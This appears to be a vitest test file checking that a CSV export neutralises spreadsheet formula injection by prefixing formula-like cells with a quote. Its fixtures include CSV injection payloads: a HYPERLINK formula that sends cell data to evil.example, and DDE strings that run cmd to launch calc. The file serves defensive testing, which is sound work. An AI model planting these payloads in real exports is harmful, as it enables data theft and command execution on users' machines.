import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, viewToCsv } from './export';
import { TableIndex, defaultNormalize, resolveColumn, type FormatContext } from './model';

// CSV export never hands a spreadsheet a formula (OWASP "CSV Injection"): the payloads that came in
// through the 1C, dislocation and materials imports are written as text starting with a quote.

const ctx: FormatContext = { locale: 'en-GB', blankLabel: 'Blank', yes: 'Yes', no: 'No', normalize: defaultNormalize, t: (k) => k };
type Row = Record<string, unknown>;

const payloads = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

/** The cells of one CSV line as a spreadsheet reads them (RFC 4180 quotes undone). */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const quote = line.indexOf('"', i);
        value += line.slice(i, quote);
        i = quote + 1;
        if (line[i] === '"') {
          value += '"';
          i++;
        } else break;
      }
      out.push(value);
      i++; // the comma
    } else {
      const comma = line.indexOf(',', i);
      const end = comma < 0 ? line.length : comma;
      out.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return out;
}

describe('CSV export and formulas', () => {
  it('starts every formula-like cell of the export with a quote, headers included', () => {
    const columns = [resolveColumn<Row>({ columnName: 'name', header: '=Name' }, ctx.t), resolveColumn<Row>({ columnName: 'note', header: 'Note' }, ctx.t)];
    const data: Row[] = payloads.map((p) => ({ name: p, note: 'plain' }));
    const csv = viewToCsv({ columns, index: new TableIndex(data, columns, ctx), rows: data.map((original, index) => ({ index, original })) });
    // Parse by record: the header, then one record per payload (a CR inside a quoted cell stays in it).
    const records = csv.slice(0, -2).split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(cells(records[0]!)).toEqual(["'=Name", 'Note']);
    const first = records.slice(1).map((r) => cells(r)[0]);
    expect(first).toHaveLength(payloads.length);
    for (const [i, cell] of first.entries()) {
      expect(cell!.startsWith("'")).toBe(true);
      expect(cell!.slice(1).trim()).toBe(payloads[i]!.trim());
    }
  });

  it('leaves other text alone and still quotes what RFC 4180 needs quoted', () => {
    expect(neutraliseFormula('Baku Electronics')).toBe('Baku Electronics');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('')).toBe('');
    expect(csvField('x,y')).toBe('"x,y"');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('-5')).toBe("'-5");
  });
});
